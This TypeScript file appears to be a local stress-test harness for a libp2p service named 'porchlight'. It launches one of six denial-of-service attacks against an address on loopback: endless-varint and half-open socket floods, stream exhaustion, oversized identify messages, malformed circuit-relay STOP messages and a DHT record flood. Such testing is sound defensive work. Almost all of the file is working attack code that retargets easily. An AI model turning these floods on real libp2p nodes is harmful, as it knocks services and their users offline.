// One attacker, as a process of its own: attacker-main.ts KIND ADDRESS MS. Ends with one line of JSON that says what it did.
import { connect, type Socket } from 'node:net'
import { randomBytes } from 'node:crypto'
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import { tcp } from '@libp2p/tcp'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { lengthPrefixed, message } from '../stranger/stranger.ts'

const [kind = '', address = '', ms = '0'] = process.argv.slice(2)
const [, host = '', port = ''] = /^\/ip4\/([^/]+)\/tcp\/(\d+)/.exec(address) ?? []
let endsMs = Date.now() + Number(ms)
const goesOn = (): boolean => Date.now() < endsMs
const counts: Record<string, number> = {}
const count = (what: string, by = 1): void => void (counts[what] = (counts[what] ?? 0) + by)
const pause = (forMs: number): Promise<void> => new Promise((resolve) => void setTimeout(resolve, forMs))

/** Fifty hosts, as a botnet has them: the whole of 127.0.0.0/8 is this machine. */
const source = (index: number): string => `127.0.1.${1 + (index % 50)}`

function socketFrom(index: number): Socket {
  const socket = connect({ host, port: Number(port), localAddress: source(index) })
  socket.on('error', () => count('refused'))
  socket.on('connect', () => count('connected'))
  return socket
}

/** Sends length bytes that never end, where multistream-select reads the first length. */
async function endlessVarint(): Promise<void> {
  const piece = Buffer.alloc(64 * 1024, 0x80)
  const one = async (index: number): Promise<void> => {
    while (goesOn()) {
      const socket = socketFrom(index)
      await new Promise<void>((resolve) => {
        const write = (): void => {
          while (goesOn() && !socket.destroyed && socket.write(piece)) count('MiB', 1 / 16)
        }
        socket.on('connect', write)
        socket.on('drain', write)
        socket.on('close', () => resolve())
        setTimeout(() => socket.destroy(), Math.max(0, endsMs - Date.now()))
      })
      await pause(10)
    }
  }
  await Promise.all(Array.from({ length: 64 }, (_, index) => one(index)))
}

/** A thousand sockets that say nothing, opened again as soon as they are closed. */
async function halfOpen(): Promise<void> {
  const one = async (index: number): Promise<void> => {
    while (goesOn()) {
      const socket = socketFrom(index)
      await new Promise<void>((resolve) => {
        socket.on('close', () => resolve())
        setTimeout(() => socket.destroy(), Math.max(0, endsMs - Date.now()))
      })
      await pause(50)
    }
  }
  await Promise.all(Array.from({ length: 1000 }, (_, index) => one(index)))
}

/** A stock node that comes from one of the hosts. */
function node(index: number, handlers: Record<string, (stream: Stream) => void> = {}): Promise<Libp2p> {
  return createLibp2p({
    transports: [tcp({ dialOpts: { localAddress: source(index) } } as never)],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    connectionMonitor: { enabled: false },
  }).then(async (libp2p) => {
    for (const [protocol, handler] of Object.entries(handlers)) await libp2p.handle(protocol, handler)
    return libp2p
  })
}

/** Runs a step over and over on connections of many nodes; what is closed is dialled again. */
async function withNodes(many: number, step: (connection: Connection, index: number) => Promise<void>, handlers = {}): Promise<void> {
  const one = async (index: number): Promise<void> => {
    const libp2p = await node(index, handlers)
    while (goesOn()) {
      try {
        const connection = await libp2p.dial(multiaddr(address), { signal: AbortSignal.timeout(5000) })
        count('connections')
        while (goesOn() && connection.status === 'open') await step(connection, index)
      } catch {
        count('failed')
        await pause(20)
      }
    }
  }
  await Promise.all(Array.from({ length: many }, (_, index) => one(index)))
}

const gate = '/porchlight/gate/1'

/** Opens streams as fast as they open, and leaves them open with half a frame in them. */
const streams = (): Promise<void> =>
  withNodes(10, async (connection) => {
    try {
      const stream = await connection.newStream(gate, { signal: AbortSignal.timeout(2000) })
      stream.send(Uint8Array.of(0xff, 0xff, 0x03, 0x0a))
      count('streams')
    } catch {
      count('streams refused')
      await pause(5)
    }
  })

/** Answers identify with 8 MiB, and pushes as much. */
const identify = (): Promise<void> => {
  const huge = (stream: Stream): void => {
    try {
      stream.send(lengthPrefixed(message([1, randomBytes(1024 * 1024)])))
      for (let i = 0; i < 8; i++) stream.send(randomBytes(1024 * 1024))
      count('answers')
    } catch {
      count('answers refused')
    }
  }
  return withNodes(
    10,
    async (connection) => {
      try {
        const stream = await connection.newStream('/ipfs/id/push/1.0.0', { signal: AbortSignal.timeout(2000) })
        // Forty thousand addresses of eight bytes, and their number does not fit the message either.
        stream.send(lengthPrefixed(message(...Array.from({ length: 40_000 }, () => [2, randomBytes(8)] as const))))
        count('pushes')
        await pause(5)
      } catch {
        count('pushes refused')
        await pause(5)
      }
    },
    { '/ipfs/id/1.0.0': huge },
  )
}

/** Plays a relay at which the victim has no place: opens STOP streams, and says in them whatever may hurt. */
const relay = (): Promise<void> =>
  withNodes(10, async (connection, index) => {
    try {
      const stream = await connection.newStream('/libp2p/circuit/relay/0.2.0/stop', { signal: AbortSignal.timeout(2000) })
      const lies = [
        lengthPrefixed(message([1, 0], [2, message([1, randomBytes(38)])])),
        Uint8Array.from(Array<number>(2000).fill(0x80)),
        lengthPrefixed(message([1, 0], [2, message([1, randomBytes(60_000)])])),
      ]
      stream.send(lies[index % lies.length]!)
      count('circuits')
      if (index % 2 === 0) stream.abort(new Error('gone'))
    } catch {
      count('circuits refused')
      await pause(5)
    }
  })

/** Puts records under random keys, as fast as the victim reads them: a hundred thousand, then no more. */
async function puts(): Promise<void> {
  const record = (key: Uint8Array): Uint8Array => message([1, key], [2, randomBytes(500)], [5, new Date().toISOString()])
  await withNodes(10, async (connection) => {
    let stream: Stream | undefined
    try {
      stream = await connection.newStream('/porchlight/kad/1', { signal: AbortSignal.timeout(2000) })
      for (let i = 0; i < 100 && goesOn() && (counts['puts'] ?? 0) < 100_000; i++) {
        const key = Buffer.concat([Buffer.from('/porchlight/'), randomBytes(32)])
        if (!stream.send(lengthPrefixed(message([1, 0], [2, key], [3, record(key)])))) await pause(1)
        count('puts')
      }
      if ((counts['puts'] ?? 0) >= 100_000) endsMs = Date.now()
      await pause(1)
    } catch {
      count('puts refused')
      await pause(5)
    } finally {
      stream?.abort(new Error('enough'))
    }
  })
}

const attacks: Record<string, () => Promise<void>> = { endlessVarint, halfOpen, streams, identify, relay, puts }
process.on('unhandledRejection', () => count('failed'))
process.on('uncaughtException', () => count('failed'))
void attacks[kind]!()
// Not until the attack says so: its last step may wait for a connection that the victim has closed, or for libp2p, whose end has no bound.
while (goesOn()) await pause(20)
process.stdout.write(`${JSON.stringify(counts)}\n`)
process.exit(0)
